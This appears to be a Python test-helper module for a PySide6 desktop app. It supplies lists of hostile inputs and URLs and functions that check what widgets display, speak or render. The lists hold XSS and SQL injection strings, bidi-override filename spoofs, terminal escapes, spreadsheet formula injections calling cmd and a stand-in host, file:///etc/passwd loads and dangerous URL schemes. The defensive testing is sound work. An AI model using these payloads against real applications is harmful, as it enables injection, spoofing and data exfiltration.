"""Texts made to be read as something else, and a look over everything a widget draws, says or hands to a screen reader.

`PAYLOADS` are forty; `LINKS` thirty. `wrongs(widget)` lists what of all that is said there could be taken for more than
words: markup that Qt would read, characters that drive or turn, an action's letter eaten for a key.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from PySide6.QtCore import QAbstractItemModel, QAbstractListModel, QMimeData, QModelIndex, QPoint, QPointF, Qt, QUrl
from PySide6.QtGui import QAccessible, QDragEnterEvent, QDragMoveEvent, QDropEvent, QTextDocument
from PySide6.QtGui import Qt as Words
from PySide6.QtWidgets import (
    QAbstractButton,
    QAbstractItemView,
    QApplication,
    QComboBox,
    QLabel,
    QLineEdit,
    QMenu,
    QPlainTextEdit,
    QTextBrowser,
    QTextEdit,
    QWidget,
)

from console.core.safe_text import TURNING

PAYLOADS: dict[str, str] = {
    "bold": "<b>tebal</b>",
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "local image": "<img src='file:///etc/passwd'>",
    "share image": "<img src='//192.0.2.1/bagi/x.png'>",
    "remote image": "<img src='http://192.0.2.1/x.png'>",
    "link": "<a href='http://192.0.2.1/'>klik di sini</a>",
    "file link": "<a href='file:///etc/passwd'>lampiran</a>",
    "script link": "<a href='javascript:alert(1)'>buka</a>",
    "rich text": "<qt><font size=7 color=red>AWAS</font></qt>",
    "table": "<table><tr><td bgcolor=white>kosong</td></tr></table>",
    "style": "<style>*{color:transparent}</style>",
    "document": "<!DOCTYPE html><html><body onload=alert(1)>",
    "broken out": '"></qt><img src=x>',
    "entities": "&lt;b&gt; &amp; &#60;img src=x&#62;",
    "svg": "<svg onload=alert(1)><image href='file:///etc/passwd'/></svg>",
    "iframe": "<iframe src='javascript:alert(1)'></iframe>",
    "template": "${alert(1)} {{7*7}} <%= 7*7 %> #{7*7}",
    "markdown": "[klik](file:///etc/passwd) ![x](http://192.0.2.1/x.png) **tebal**",
    "ends a script": "</script><script>alert(1)</script>",
    "line breaks": "satu\nPelapor: orang lain\r\ntiga\u2028empat\u2029lima\x85enam",
    "turned": "laporan\u202egnp.exe",
    "isolated": "\u2067sisip\u2069 dan \u061ctanda\u200e\u200f",
    "nested turns": "\u202a\u202b\u202d\u2066\u2068a\u2069\u202c",
    "escape": "\x1b[2J\x1b[31mMERAH\x1b]0;judul\x07",
    "one byte escape": "\x9b2J\x9d0;judul\x9c",
    "nul": "nol\x00sesudah",
    "bell and back": "a\x07\x08\x08\x08b\x7f",
    "sql": "'; DROP TABLE complaint; --",
    "sql union": '" UNION SELECT body FROM rev --',
    "search": 'NEAR(a b) OR title:* "',
    "format": "{0.__class__.__init__.__globals__} %s %n %(x)d {values}",
    "phrase": "{count:satu|banyak} {fault} «commands.nobody»",
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"klik")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "mnemonic": "&Hapus && &Semua\tCtrl+Q",
    "path": "../../../../etc/passwd",
    "very long": "panjang" * 14_000,
    "many marks": "Z" + "\u0301" * 3000 + " \ud800 \ue000 \uffff",
}
"""By what they try."""

LINKS = (
    "http://192.0.2.1/", "https://192.0.2.1/", "https://user:sandi@192.0.2.1/", "http://192.0.2.1:22/", "//192.0.2.1/x",
    "\\\\192.0.2.1\\bagi\\x", "file:///etc/passwd", "file://192.0.2.1/bagi", "FILE:///C:/Windows/system32/calc.exe",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "mailto:a@b.example?attach=/etc/passwd", "tel:+62811", "sms:+62811", "ssh://192.0.2.1",
    "telnet://192.0.2.1", "ftp://192.0.2.1/x", "smb://192.0.2.1/x", "dav://192.0.2.1/x", "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x", "vnc://192.0.2.1", "steam://run/1", "about:blank", "qrc:/x", "view-source:http://192.0.2.1",
    "http://xn--80ak6aa92e.example/",
)  # fmt: skip
"""Thirty places nobody is to be led to."""

_ROLES = {
    "text": Qt.ItemDataRole.DisplayRole,
    "tooltip": Qt.ItemDataRole.ToolTipRole,
    "spoken": Qt.ItemDataRole.AccessibleTextRole,
    "described": Qt.ItemDataRole.AccessibleDescriptionRole,
    "status": Qt.ItemDataRole.StatusTipRole,
    "whats this": Qt.ItemDataRole.WhatsThisRole,
}
_MOST_ROWS = 200
_OWN_TAGS = re.compile(r"</?qt>|<br/>")
_LAYOUT = set("\n\t")


def said(widget: QWidget) -> Iterator[tuple[str, str]]:
    """All texts of a widget and what is in it, each with its place: `QLabel.text`, `QueueTable[3].tooltip`."""
    for each in (widget, *widget.findChildren(QWidget)):
        name = type(each).__name__
        yield from ((f"{name}.{place}", text) for place, text in _own(each) if text)
        yield from ((f"{name}.{place}", text) for place, text in _spoken(each) if text)
        if isinstance(each, QMenu):
            for action in each.actions():
                yield f"{name}.action", action.text()
                yield f"{name}.tooltip", action.toolTip()
        if isinstance(each, QAbstractItemView) and each.model() is not None:
            yield from ((f"{name}{place}", text) for place, text in cells(each.model()))


def cells(model: QAbstractItemModel) -> Iterator[tuple[str, str]]:
    """What a model answers for its rows, by every role that is drawn or spoken."""
    # a list's own count of columns is hidden: it is one
    columns = 1 if isinstance(model, QAbstractListModel) else model.columnCount(QModelIndex())
    for row in range(min(_MOST_ROWS, model.rowCount())):
        for column in range(columns):
            for name, role in _ROLES.items():
                text = model.index(row, column).data(role)
                if isinstance(text, str) and text:
                    yield f"[{row},{column}].{name}", text


def _own(each: QWidget) -> Iterator[tuple[str, str]]:
    yield "tooltip", each.toolTip()
    yield "accessible name", each.accessibleName()
    yield "accessible description", each.accessibleDescription()
    yield "status", each.statusTip()
    yield "whats this", each.whatsThis()
    yield "window title", each.windowTitle()
    if isinstance(each, QLabel | QAbstractButton):
        yield "text", each.text()
    if isinstance(each, QLineEdit | QPlainTextEdit):
        yield "placeholder", each.placeholderText()
    if isinstance(each, QComboBox):
        yield from (("choice", each.itemText(row)) for row in range(each.count()))


def _spoken(each: QWidget) -> Iterator[tuple[str, str]]:
    """As a screen reader hears it."""
    face = QAccessible.queryAccessibleInterface(each)
    if face is not None and face.isValid():
        for what in (QAccessible.Text.Name, QAccessible.Text.Description, QAccessible.Text.Help):
            yield f"spoken {what.name.lower()}", face.text(what)


def wrong(place: str, text: str) -> str:
    """What could be taken for more than words in a text that is shown at a place, "" for nothing."""
    driving = [
        f"U+{ord(char):04X}" for char in text if (ord(char) < 0x20 or 0x7F <= ord(char) < 0xA0) and char not in _LAYOUT
    ]
    turning = [f"U+{ord(char):04X}" for char in text if char in TURNING or char in "\u2028\u2029"]
    if driving or turning:
        return f"{place} drives or turns: {(driving + turning)[:5]} in {text[:60]!a}"
    if len(text) > 25_000:
        return f"{place} is {len(text)} long"
    rich = place.endswith(("tooltip", "whats this", "status"))
    if rich and re.search("[<>]", _OWN_TAGS.sub("", text)) and Words.mightBeRichText(text):
        return f"{place} has markup of somebody else's: {text[:80]!a}"
    if rich and Words.mightBeRichText(text) and not text.startswith("<qt>"):
        return f"{place} would be read as markup: {text[:80]!a}"
    return ""


def wrongs(widget: QWidget) -> list[str]:
    """All that is wrong with what a widget says."""
    found = [fault for place, text in said(widget) if (fault := wrong(place, text))]
    for each in (widget, *widget.findChildren(QWidget)):
        if isinstance(each, QLabel) and (each.openExternalLinks() or _reads_markup(each)):
            found.append(f"a label that reads markup: {each.text()[:80]!a}")
        if isinstance(each, QTextEdit) and not isinstance(each, QTextBrowser):
            found.append("a QTextEdit takes rich text that is pasted or dropped")
        if isinstance(each, QTextBrowser):
            found += [f"a page with {what}" for what in _foreign(each.document())]
            if each.openLinks() or each.openExternalLinks():
                found.append("a page that follows links")
    return sorted(set(found))


def _reads_markup(label: QLabel) -> bool:
    plain = label.textFormat() is Qt.TextFormat.PlainText
    return not plain and Words.mightBeRichText(label.text())


def _foreign(document: QTextDocument) -> list[str]:
    """Pictures and links in a document."""
    html = document.toHtml()
    return re.findall(r"<img[^>]*>|<a [^>]*href[^>]*>", html)


def drop(widget: QWidget, urls: list[QUrl]) -> None:
    """As a hand drops it: entered, moved over, let go."""
    mime = QMimeData()
    mime.setUrls(urls)
    mime.setText("\n".join(url.toString() for url in urls))
    mime.setHtml("<img src='file:///etc/passwd'><a href='http://192.0.2.1/'>x</a>")
    at, any_button, none = QPoint(5, 5), Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier
    for event in (
        QDragEnterEvent(at, Qt.DropAction.CopyAction, mime, any_button, none),
        QDragMoveEvent(at, Qt.DropAction.CopyAction, mime, any_button, none),
        QDropEvent(QPointF(at), Qt.DropAction.CopyAction, mime, any_button, none),
    ):
        QApplication.sendEvent(widget, event)
